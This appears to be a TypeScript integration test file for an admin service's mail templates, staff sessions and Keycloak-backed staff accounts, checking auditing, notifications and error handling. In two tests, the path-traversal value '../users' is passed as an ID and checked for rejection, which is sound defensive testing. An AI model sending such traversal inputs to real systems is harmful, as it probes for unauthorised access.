    const second = await admin((api) => api.createTemplate(aTemplate({ isActive: false })));
    await admin((api) => api.createTemplate(aTemplate({ locale: 'es' })));
    const refused = { code: 'ALREADY_EXISTS', reason: 'template-already-active' };
    await expect(admin((api) => api.createTemplate(aTemplate()))).rejects.toMatchObject(refused);
    const activate = () => admin((api) => api.updateTemplate({ id: second.id, details: aTemplate() }));
    await expect(activate()).rejects.toMatchObject(refused);
    await admin((api) => api.deleteTemplate({ id: first.id }));
    expect((await activate()).details?.isActive).toBe(true);
  });

  it('are audited with each change, with what was before and after, and told to the other administrators', async () => {
    run.accounts.administrators.set('a-1', 'first@example.test').set('a-2', 'second@example.test');
    const as = <T>(work: () => Promise<T>) => run.server.as({ sub: 'a-1', roles: ['admin'] }, work);
    const { id } = await as(() => run.api.createTemplate(aTemplate()));
    await as(() => run.api.updateTemplate({ id, details: aTemplate({ htmlContent: '<p>Other words</p>' }) }));
    await as(() => run.api.deleteTemplate({ id }));
    await run.processAll();
    const rows = await run.db('template_change').orderBy('changed_at');
    expect(rows.map((row) => [row.action, row.changed_by, row.template_id])).toEqual([
      ['created', 'a-1', id],
      ['changed', 'a-1', id],
      ['deleted', 'a-1', id],
    ]);
    expect(rows[0].content_hash).toMatch(/^[0-9a-f]{64}$/);
    expect(rows[1].content_hash).not.toBe(rows[0].content_hash);
    expect(rows[2].content_hash).toBe(rows[1].content_hash);
    const words = (row: { before?: { htmlContent: string }; after?: { htmlContent: string } }) =>
      [row.before, row.after].map((each) => each?.htmlContent);
    const { htmlContent } = aTemplate();
    expect(rows.map(words)).toEqual([
      [undefined, htmlContent],
      [htmlContent, '<p>Other words</p>'],
      ['<p>Other words</p>', undefined],
    ]);
    await expect(run.db('template_change').update({ changed_by: 'x' })).rejects.toThrow('never changed');
    expect(run.catcher.mails.map(({ to }) => to)).toEqual(Array(3).fill('second@example.test'));
    expect(subjects()[0]).toBe('Wayfare: the mail template receipt was changed');
    expect(run.catcher.mails[0]?.content).toContain('first@example.test created the mail template receipt');
  });

  it('that are broken are passed over for our own letter', async () => {
    const { id } = await admin((api) => api.createTemplate(aTemplate()));
    await run.db('email_template').where({ id }).update({ html_content: '{{#if' });
    await paymentSucceeded(run.db);
    await run.processAll();
    expect(subjects()).toContain('Receipt for order 1a2b3c4d');
  });
});

describe('a session of the staff', () => {
  const admin = <T>(work: (api: typeof run.api) => Promise<T>) =>
    run.server.as({ roles: ['admin'], sub: 'admin-1' }, () => work(run.api));
  const open = (id: string) =>
    run.accounts.sessions.push({
      id,
      userId: 'staff-1',
      email: 'grace@staff.example',
      name: 'Grace Hopper',
      address: '203.0.113.7',
      startedAt: new Date('2026-01-01T08:00:00Z'),
      seenAt: new Date('2026-01-01T09:00:00Z'),
    });
  const rows = (sessionId: string) => run.db('staff_session_end').where({ session_id: sessionId });

  it('is ended by an administrator, and who did it is kept', async () => {
    const id = randomUUID();
    open(id);
    const { sessions } = await admin((api) => api.listStaffSessions({}));
    expect(sessions).toEqual([expect.objectContaining({ id, userId: 'staff-1', address: '203.0.113.7' })]);
    await admin((api) => api.endStaffSession({ id }));
    expect((await admin((api) => api.listStaffSessions({}))).sessions).toEqual([]);
    expect(await rows(id)).toEqual([
      expect.objectContaining({ ended_by: 'admin-1', user_id: 'staff-1', ended_at: expect.any(Date) }),
    ]);
  });

  it('is kept as asked for and not as ended where Keycloak knows none, or is away', async () => {
    const [unknown, later] = [randomUUID(), randomUUID()];
    await expect(admin((api) => api.endStaffSession({ id: unknown }))).rejects.toMatchObject({
      reason: 'staff-session-not-found',
    });
    open(later);
    run.accounts.goAway(true);
    await expect(admin((api) => api.endStaffSession({ id: later }))).rejects.toMatchObject({ code: 'UNAVAILABLE' });
    run.accounts.goAway(false);
    for (const id of [unknown, later])
      expect(await rows(id)).toEqual([expect.objectContaining({ ended_by: 'admin-1', ended_at: null, user_id: null })]);
    await expect(admin((api) => api.endStaffSession({ id: '../users' }))).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });
});

describe('an account of the staff', () => {
  const admin = <T>(work: (api: typeof run.api) => Promise<T>) =>
    run.server.as({ roles: ['admin'], sub: 'admin-1' }, () => work(run.api));
  const person = {
    email: ' Dora@staff.example ',
    firstName: 'Dora',
    lastName: 'Wirth',
    roles: ['reviewer' as const],
    locale: 'fr',
  };
  const change = (userId: string, over: object = {}) =>
    admin((api) =>
      api.changeStaffAccount({
        userId,
        roles: ['viewer'],
        enabled: true,
        seenRoles: ['reviewer'],
        seenEnabled: true,
        ...over,
      }),
    );

  it('is made for who is invited, and the way to its password is mailed in the page’s language', async () => {
    const invited = await admin((api) => api.inviteStaff(person));
    expect(invited).toMatchObject({ email: 'dora@staff.example', roles: ['reviewer'], invited: true });
    const audit = { change: 'invite', roles: ['reviewer'], enabled: true };
    // Asked for before Keycloak is called, without the address.
    expect(run.noted).toEqual([
      { ...audit, done: false, userId: '', name: '' },
      { ...audit, done: true, userId: invited.userId, name: 'Dora Wirth' },
    ]);
    await run.processAll();
    const [mail] = run.catcher.mails;
    expect(run.catcher.mails).toHaveLength(1);
    expect(mail?.to).toBe('dora@staff.example');
    expect(mail?.content).toContain('Bonjour Dora');
    expect(mail?.content).toContain(`https://keycloak.test/set-up?key=${invited.userId}`);
    // Neither the address nor the way in is kept or logged.
    const [task] = await run.db('task').where({ kind: 'staff_invitation' });
    expect(task).toMatchObject({ status: 'done', recipient: null, facts: { userId: invited.userId } });
    expect(run.logged.join()).not.toMatch(/dora@|set-up\?key/);
  });

  it('is sent no second mail once it was set up, and is not invited where the address is taken', async () => {
    const { userId } = await admin((api) => api.inviteStaff(person));
    await admin((api) => api.inviteStaffAgain({ userId, locale: 'en' }));
    Object.assign(run.accounts.colleagues[0] ?? {}, { invited: false });
    await run.processAll();
    expect(run.catcher.mails).toEqual([]);
    const again = admin((api) => api.inviteStaffAgain({ userId, locale: 'en' }));
    await expect(again).rejects.toMatchObject({ code: 'FAILED_PRECONDITION', reason: 'staff-account-set-up' });
    const taken = admin((api) => api.inviteStaff(person));
    await expect(taken).rejects.toMatchObject({ code: 'ALREADY_EXISTS', reason: 'address-in-use' });
    expect(run.noted.at(-1)).toMatchObject({ change: 'invite', done: false });
  });

  it('is changed as it was seen, and the sessions that ended by it are told', async () => {
    const { userId } = await admin((api) => api.inviteStaff(person));
    run.noted.length = 0;
    await expect(change(userId, { seenRoles: ['finance'] })).rejects.toMatchObject({ reason: 'staff-account-changed' });
    expect(await change(userId)).toMatchObject({ account: { roles: ['viewer'] }, endedSessions: ['session-1'] });
    expect(run.noted.map(({ done, roles }) => [done, roles])).toEqual([
      [false, ['viewer']],
      [false, ['viewer']],
      [true, ['viewer']],
    ]);
    await expect(change('nobody')).rejects.toMatchObject({ code: 'NOT_FOUND', reason: 'staff-account-not-found' });
    for (const bad of [{ roles: [] }, { roles: ['superuser'] }])
      await expect(change(userId, bad)).rejects.toMatchObject({ code: 'INVALID_ARGUMENT' });
    await expect(change('../users')).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('is not changed while Keycloak is away: what was asked is kept, and nothing counts as done', async () => {
    const { userId } = await admin((api) => api.inviteStaff(person));
    run.noted.length = 0;
    run.accounts.goAway(true);
    await expect(change(userId)).rejects.toMatchObject({ code: 'UNAVAILABLE', reason: 'keycloak-away' });
    await expect(admin((api) => api.listStaffAccounts({}))).rejects.toMatchObject({ code: 'UNAVAILABLE' });
    expect(run.noted.map(({ done }) => done)).toEqual([false]);
  });
});
